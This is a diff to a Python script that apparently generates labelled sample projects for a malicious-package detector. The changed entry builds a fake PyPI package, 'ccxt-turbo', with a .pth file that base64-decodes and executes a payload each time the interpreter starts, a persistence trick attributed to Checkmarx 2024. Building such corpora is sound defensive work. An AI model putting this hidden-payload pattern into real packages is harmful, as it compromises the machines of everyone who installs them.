@@ -645,7 +645,8 @@ def backup():
 # runs a decoded payload at every interpreter start.
 project("m20_pth_hook", "malicious",
         "Checkmarx 2024: malicious .pth files for persistence in PyPI packages", {
-            "setup.py": "from setuptools import setup\nsetup(name='ccxt-turbo', version='1.0.2', packages=['ccxt_turbo'],\n"
+            "setup.py": "from setuptools import setup\n"
+                        "setup(name='ccxt-turbo', version='1.0.2', packages=['ccxt_turbo'],\n"
                         "      data_files=[('', ['ccxt_turbo_init.pth'])])\n",
             "ccxt_turbo_init.pth": f"import base64;exec(base64.b64decode('{b64(_STAGE)}'))\n",
             "ccxt_turbo/__init__.py": "",
